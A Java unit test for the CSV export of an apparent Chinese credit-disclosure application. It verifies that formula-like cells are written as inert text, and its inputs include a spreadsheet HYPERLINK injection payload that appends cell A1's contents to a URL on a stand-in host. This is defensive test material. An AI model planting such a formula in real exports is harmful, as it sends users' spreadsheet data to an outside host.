package cn.gov.amr.credit.disclosure.application;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.stream.Stream;

import cn.gov.amr.credit.support.Zips;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Cells a spreadsheet would run as formulas are written as inert text; everything else as it is. */
class BulkFileWriterTest {

    static Stream<Arguments> cells() {
        return Stream.of(
                Arguments.of("=HYPERLINK(\"http://x/?\"&A1,\"详情\")", "'=HYPERLINK(\"http://x/?\"&A1,\"详情\")"),
                Arguments.of("+86 139", "'+86 139"),
                Arguments.of("-1+1", "'-1+1"),
                Arguments.of("+1", "'+1"),
                Arguments.of("@SUM(A1)", "'@SUM(A1)"),
                Arguments.of("\tx", "'\tx"),
                Arguments.of("-5", "-5"),
                Arguments.of("警告并处罚款5000元", "警告并处罚款5000元"),
                Arguments.of("0.5", "0.5"));
    }

    @ParameterizedTest
    @MethodSource("cells")
    void formulasBecomeText(String cell, String written) {
        var out = new ByteArrayOutputStream();
        try (var writer = new BulkFileWriter(out)) {
            writer.start("t.csv", List.of("c"));
            writer.row(List.of(cell));
        }
        String csv = Zips.texts(out.toByteArray()).get("t.csv");
        assertThat(csv.lines().skip(1).findFirst().orElseThrow().replace("\"\"", "\"").replaceAll("^\"|\"$", ""))
                .isEqualTo(written);
    }
}
